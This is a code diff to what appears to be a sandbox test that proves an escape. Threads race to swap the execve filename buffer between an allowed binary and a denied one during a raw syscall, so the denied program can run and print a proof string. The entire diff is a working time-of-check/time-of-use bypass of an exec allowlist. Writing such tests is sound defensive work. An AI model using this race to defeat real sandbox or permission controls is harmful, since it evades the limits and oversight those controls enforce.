@@ -3,30 +3,28 @@
 group: executing
 effect: proves
 read: /usr/bin
-run: /usr/bin/true
+run: /usr/bin/printenv
 """
 import threading
 
 EXECVE = 59
-name = ctypes.create_string_buffer(b"/usr/bin/true", 32)
+ALLOWED, DENIED = b"/usr/bin/printenv", b"/usr/bin/printf\0\0"
+name = ctypes.create_string_buffer(ALLOWED, 32)
 arguments = (ctypes.c_char_p * 4)(b"x", b"%s\n", arena.proof.encode())
 variables = (ctypes.c_char_p * 1)()
 
 
 def race():
-    done = threading.Event()
-
     def change():
-        while not done.is_set():
-            name.value = b"/usr/bin/printf"
-            name.value = b"/usr/bin/true"
+        while True:
+            ctypes.memmove(name, DENIED, len(DENIED))
+            ctypes.memmove(name, ALLOWED, len(ALLOWED))
 
-    threads = [threading.Thread(target=change, daemon=True) for _ in range(4)]
-    for thread in threads:
-        thread.start()
+    for _ in range(4):
+        threading.Thread(target=change, daemon=True).start()
     libc.syscall(EXECVE, name, arguments, variables)
     os._exit(99)
 
 
-for _ in range(60):
+for _ in range(40):
     fork(race)
